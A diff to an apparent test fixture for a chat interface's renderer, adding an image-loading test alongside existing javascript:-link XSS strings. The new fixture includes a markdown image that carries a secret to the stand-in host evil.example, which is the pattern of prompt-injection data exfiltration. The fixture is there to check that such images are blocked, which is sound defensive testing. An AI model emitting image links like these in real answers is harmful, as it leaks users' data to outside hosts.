@@ -42,6 +42,18 @@ XSS = (
     "[click](javascript:window.pwned=3) and ![img](javascript:window.pwned=4)\n\n"
     "[ok](/relative) [mail](mailto:a@example.com)\n"
 )
+#: A 1x1 PNG, for images that should load.
+PIXEL = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6"
+    "kgAAAABJRU5ErkJggg=="
+)
+#: Images from the page's origin, a data: URL, an allowed host (``cdn.example.com``, when the
+#: page allows it) and one that is never allowed (``evil.example``), as an exfiltration would.
+IMAGES = (
+    f"![same](/same-origin.png) ![dot](data:image/png;base64,{PIXEL})\n\n"
+    "![allowed](https://cdn.example.com/ok.png)\n\n"
+    "![leak](https://evil.example/t.png?secret=s3cret) ![](https://evil.example/no-alt.png)\n"
+)
 # What the interop test sends and expects back, piece by piece.
 TRICKY = [
     "Hello 😀 ",
@@ -78,6 +90,8 @@ class Prompt:
     ``CLIENT_TOOL``      a call of ``local_time``, which the browser runs; continued: "It is <it>."
     ``EXTRAS``           a file, a source document, metadata, a ``Chunk``, ``Finish("length")``,
                          and metadata on ``start``
+    ``IMAGES``           ``IMAGES``, 5 characters a delta, then image file parts from
+                         ``evil.example`` and ``cdn.example.com``
     ``lines(n, delay)``  n paragraphs, ``delay`` seconds apart (a long answer that scrolls)
     ===================  ========================================================================
     """
@@ -99,6 +113,7 @@ class Prompt:
     APPROVAL = "approval"
     CLIENT_TOOL = "client tool"
     EXTRAS = "extras"
+    IMAGES = "images"
 
     @staticmethod
     def lines(count: int, delay: float = 0.02) -> str:
@@ -242,12 +257,20 @@ async def _extras() -> AsyncIterator[ChatPart]:
     yield Finish("length", {"tokens": 3})
 
 
+async def _images() -> AsyncIterator[ChatPart]:
+    for start in range(0, len(IMAGES), 5):  # an address arrives in pieces, after its alt text
+        yield IMAGES[start : start + 5]
+    yield FilePart("https://evil.example/file.png", "image/png")
+    yield FilePart("https://cdn.example.com/file.png", "image/png")
+
+
 AGENT = {
     Prompt.TOOLS: _tools,
     Prompt.TOOL_ERROR: _tool_error,
     Prompt.APPROVAL: _approval,
     Prompt.CLIENT_TOOL: _client_tool,
     Prompt.EXTRAS: _extras,
+    Prompt.IMAGES: _images,
 }
 
 
